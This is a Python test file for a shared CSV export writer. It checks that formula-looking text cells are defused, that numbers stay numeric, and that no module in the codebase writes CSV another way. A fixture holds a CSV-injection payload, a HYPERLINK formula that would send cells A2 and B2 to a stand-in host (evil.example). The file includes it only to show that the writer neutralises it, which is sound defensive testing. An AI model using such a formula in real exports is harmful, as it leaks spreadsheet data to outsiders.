"""The one CSV writer: formula-looking text is defused, numbers stay numbers, nobody writes CSV another way."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from licensing.delivery.archive.formats import metadata_csv
from stockdata.csv_export import csv_writer, neutralise

ROOT = Path(__file__).resolve().parents[2]
#: A billing name that, clicked in a spreadsheet, it would send cells A2 and B2 away.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open record")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+81 3 1234", "'+81 3 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1.5", "'-1.5"),  # text in a text column is text, whatever it looks like
        ("Tokyo Vision Labs K.K.", "Tokyo Vision Labs K.K."),
        ("株式会社=テスト", "株式会社=テスト"),
        ("", ""),
        (-1.5, -1.5),  # numbers stay numbers
        (-11_111, -11_111),
        (Decimal("-3.25"), Decimal("-3.25")),
        (None, None),
    ],
)
def test_csv_injection_neutralise(value, written):
    assert neutralise(value) == written


def test_csv_injection_writer_round_trips_numbers_and_defuses_text():
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["name", "amount", "ratio"])
    writer.writerows([[HYPERLINK, -11_111, -1.5], ["plain, with comma", 0, 2.0]])
    assert (
        buffer.getvalue().splitlines()[1]
        == '"\'=HYPERLINK(""http://evil.example/?leak=""&A2&B2,""Open record"")",-11111,-1.5'
    )
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [
        ["name", "amount", "ratio"],
        ["'" + HYPERLINK, "-11111", "-1.5"],
        ["plain, with comma", "0", "2.0"],
    ]
    assert "\r\n" in buffer.getvalue()


def test_csv_injection_bundle_metadata_csv_defuses_text_cells_and_keeps_numbers():
    """image_metadata.csv stays readable by pandas and the like: only a formula-looking text cell changes."""
    items = [
        {
            "file_name": "-evil=cmd.jpg",
            "width": 640,
            "height": 480,
            "tags": ["=HYPERLINK(1)", "street"],
            "subjects": [{"subject_id": "@s1", "age_band": "30-39", "gender": "-"}],
            "scopes": ["ai_training"],
        },
        {"file_name": "plain.jpg", "width": 1, "height": 2},
    ]
    text = metadata_csv(items).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["file_name"] == "'-evil=cmd.jpg"
    assert (rows[0]["width"], rows[0]["height"], rows[0]["subject_count"]) == ("640", "480", "1")
    # JSON columns start with [ or {: never a formula, so kept exactly (a JSON parser reads them back).
    assert rows[0]["tags"] == '["=HYPERLINK(1)","street"]'
    assert rows[0]["subject_ids"] == '["@s1"]'
    assert rows[1]["file_name"] == "plain.jpg"


# --- Nobody writes CSV another way ---------------------------------------------------------------------


def csv_writers_outside(source: str) -> list[str]:
    """Uses of the standard library's CSV writers in ``source`` (the shared module is the one place)."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and ast.unparse(node.value) == "csv"
        ):
            found.append(f"line {node.lineno}: csv.{node.attr}")
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [
                f"line {node.lineno}: from csv import {a.name}"
                for a in node.names
                if a.name in ("writer", "DictWriter")
            ]
    return found


def test_csv_injection_finder_sees_each_way_to_write_csv():
    assert csv_writers_outside("import csv\nw = csv.writer(f)") == ["line 2: csv.writer"]
    assert csv_writers_outside("w = csv.DictWriter(f, fieldnames=[])") == ["line 1: csv.DictWriter"]
    assert csv_writers_outside("from csv import DictWriter") == ["line 1: from csv import DictWriter"]
    assert csv_writers_outside("rows = csv.reader(f)\nd = csv.DictReader(f)") == []


def test_csv_injection_every_csv_goes_through_the_shared_writer():
    offenders, checked = {}, 0
    for folder in ("catalog", "licensing", "contributors", "stockdata", "bench", "scripts"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            relative = path.relative_to(ROOT)
            if {"tests", "migrations"} & set(relative.parts) or relative == Path("stockdata/csv_export.py"):
                continue
            checked += 1
            if found := csv_writers_outside(path.read_text()):
                offenders[str(relative)] = found
    assert checked > 100
    assert offenders == {}
